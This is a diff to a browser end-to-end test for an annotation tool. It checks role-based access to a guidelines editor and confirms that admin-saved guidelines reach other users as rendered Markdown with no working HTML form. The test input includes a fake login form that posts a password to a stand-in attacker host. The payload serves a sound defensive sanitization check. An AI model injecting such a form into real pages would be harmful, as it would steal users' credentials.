@@ -252,8 +252,8 @@ def test_evidence_viewer_shows_readable_images_boxes_and_a_timeline(served: Serv
 
 def test_two_annotators_queues_progress_guidelines_and_agreement(data_dir: Path, browser: Any) -> None:
     accounts = Accounts.of(data_dir)
-    accounts.add("alice", "alice-password")
-    accounts.add("bob", "bob-password")
+    accounts.add("alice", "alice-password", role="annotator")
+    accounts.add("bob", "bob-password", role="admin")
     maestro = Maestro.open(Settings.resolve(data_dir=data_dir))
     server = Served(maestro)
     try:
@@ -291,16 +291,26 @@ def test_two_annotators_queues_progress_guidelines_and_agreement(data_dir: Path,
                                                                                        ("bob", "incorrect")}
         shot(bob, "26_two_annotators_disagree")
 
+        # Only the admin (bob) has the editor; what he stores is shown as Markdown, never as a working form.
+        alice.locator("#rate-guidelines").get_by_text("Guidelines").first.click()
+        expect(alice.locator("#rate-guidelines-text")).to_contain_text("Rating guidelines", timeout=20_000)
+        assert alice.locator("#rate-guidelines-edit, #rate-guidelines-editor").count() == 0
         bob.locator("#rate-guidelines").get_by_text("Guidelines").first.click()
         bob.get_by_text("Edit the guidelines").click()
-        bob.fill("#rate-guidelines-editor textarea", "### Our rules\n- **Count** every sign you can read.")
+        bob.fill("#rate-guidelines-editor textarea", "### Our rules\n- **Count** every sign you can read.\n\n"
+                 "<form action='https://evil.example/steal'><input name='password'><button>Log in</button></form>")
         bob.click("#rate-guidelines-save")
         expect(bob.locator("#rate-guidelines-text")).to_contain_text("Count every sign", timeout=20_000)
         assert "Our rules" in (data_dir / "guidelines.md").read_text(encoding="utf-8")
+        # The page alice loads next shows the file as it is now (read at each page load, not at server start).
         alice.reload()
+        alice.wait_for_selector("#ask-question", timeout=20_000)
         open_tab(alice, "Rate")
         alice.locator("#rate-guidelines").get_by_text("Guidelines").first.click()
-        expect(alice.locator("#rate-guidelines-text")).to_contain_text("Count every sign", timeout=20_000)
+        panel = alice.locator("#rate-guidelines-text")
+        expect(panel).to_contain_text("Count every sign", timeout=20_000)
+        expect(panel.locator("strong")).to_have_text("Count")
+        assert panel.locator("form, input, button, iframe, a").count() == 0, "no working form reaches alice"
     finally:
         server.close()
 
